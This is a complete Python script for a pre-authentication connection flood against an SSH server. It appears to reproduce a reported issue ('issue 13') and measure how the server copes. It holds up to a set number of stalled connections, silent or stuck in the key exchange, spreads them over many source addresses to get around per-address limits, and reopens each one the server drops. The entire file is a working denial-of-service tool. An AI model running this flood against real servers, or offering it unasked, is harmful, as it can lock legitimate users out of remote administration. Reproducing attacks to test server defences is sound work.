#!/usr/bin/env python3
"""Pre-auth flood: hold N stalled connections to an SSH server, spread over many source
addresses, and open a new one whenever the server drops one (the attack of issue 13).

  preauth_flood.py --target 10.1.1.1:2222 --sources 10.1.1.10-59 --connections 1000 \
                   [--mode silent|banner] [--rate 1000] [--duration 120] [--stats FILE]

silent: connect and never send a byte; banner: send an SSH banner, then nothing (stalls
in the key exchange). --rate caps new connections per second (0 = as fast as possible).
--stats is rewritten once a second with a JSON object (held, attempts, established,
dropped, dropped_fast, errors, max_held); the same object is printed at exit. A
connection the server closes within 0.5 s of connecting counts as dropped_fast (refused
at accept). SIGTERM/SIGINT end the run.
"""
import argparse
import errno
import ipaddress
import json
import os
import selectors
import signal
import socket
import time

IP_BIND_ADDRESS_NO_PORT = 24
BANNER = b"SSH-2.0-OpenSSH_9.2p1\r\n"


def parse_sources(text):
    out = []
    for part in text.split(","):
        if "-" in part:
            first, last = part.split("-")
            base = ipaddress.ip_address(first)
            if "." not in last and ":" not in last:  # 10.1.1.10-59
                last = str(base).rsplit(".", 1)[0] + "." + last
            end = ipaddress.ip_address(last)
            out += [str(ipaddress.ip_address(int(base) + i)) for i in range(int(end) - int(base) + 1)]
        else:
            out.append(part)
    return out


class Flood:
    def __init__(self, args):
        host, port = args.target.rsplit(":", 1)
        self.target = (host.strip("[]"), int(port))
        self.sources = parse_sources(args.sources)
        self.want = args.connections
        self.mode = args.mode
        self.rate = args.rate
        self.sel = selectors.DefaultSelector()
        self.conns = {}  # sock -> [state, t_connected, slot]
        self.free_slots = list(range(self.want))
        self.stats = dict(held=0, attempts=0, established=0, dropped=0, dropped_fast=0,
                          errors=0, max_held=0)
        self.tokens = float(self.rate or 1)
        self.last_refill = time.monotonic()

    def open_one(self, slot):
        src = self.sources[slot % len(self.sources)]
        family = socket.AF_INET6 if ":" in src else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            s.bind((src, 0))
            rc = s.connect_ex(self.target)
        except OSError:
            rc = -1
        self.stats["attempts"] += 1
        if rc not in (0, errno.EINPROGRESS):
            self.stats["errors"] += 1
            s.close()
            self.free_slots.append(slot)
            return
        self.conns[s] = ["connecting", 0.0, slot]
        self.sel.register(s, selectors.EVENT_WRITE)

    def drop(self, s):
        state, t_conn, slot = self.conns.pop(s)
        self.sel.unregister(s)
        s.close()
        if state == "held":
            self.stats["held"] -= 1
            self.stats["dropped"] += 1
            if time.monotonic() - t_conn < 0.5:
                self.stats["dropped_fast"] += 1
        else:
            self.stats["errors"] += 1
        self.free_slots.append(slot)

    def on_event(self, s, mask):
        entry = self.conns[s]
        if entry[0] == "connecting":
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                return self.drop(s)
            entry[0], entry[1] = "held", time.monotonic()
            self.stats["held"] += 1
            self.stats["established"] += 1
            self.stats["max_held"] = max(self.stats["max_held"], self.stats["held"])
            if self.mode == "banner":
                try:
                    s.send(BANNER)
                except OSError:
                    return self.drop(s)
            self.sel.modify(s, selectors.EVENT_READ)
            return
        try:
            data = s.recv(65536)  # the server's banner or kex: read and ignore
        except OSError:
            data = b""
        if not data:
            self.drop(s)

    def refill(self):
        now = time.monotonic()
        if self.rate:
            self.tokens = min(self.rate, self.tokens + (now - self.last_refill) * self.rate)
        self.last_refill = now
        while self.free_slots and (not self.rate or self.tokens >= 1):
            self.tokens -= 1
            self.open_one(self.free_slots.pop())

    def run(self, duration, stats_file):
        stop = [False]
        for sig in (signal.SIGTERM, signal.SIGINT):
            signal.signal(sig, lambda *_: stop.__setitem__(0, True))
        end = time.monotonic() + duration if duration else None
        next_stats = 0.0
        while not stop[0] and (end is None or time.monotonic() < end):
            self.refill()
            for key, mask in self.sel.select(timeout=0.01):
                self.on_event(key.fileobj, mask)
            if stats_file and time.monotonic() >= next_stats:
                next_stats = time.monotonic() + 1
                with open(stats_file + ".tmp", "w") as f:
                    json.dump(self.stats, f)
                os.replace(stats_file + ".tmp", stats_file)
        print(json.dumps(self.stats), flush=True)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--target", required=True)
    p.add_argument("--sources", required=True)
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--mode", choices=["silent", "banner"], default="silent")
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--duration", type=float, default=0)
    p.add_argument("--stats")
    args = p.parse_args()
    Flood(args).run(args.duration, args.stats)


if __name__ == "__main__":
    main()
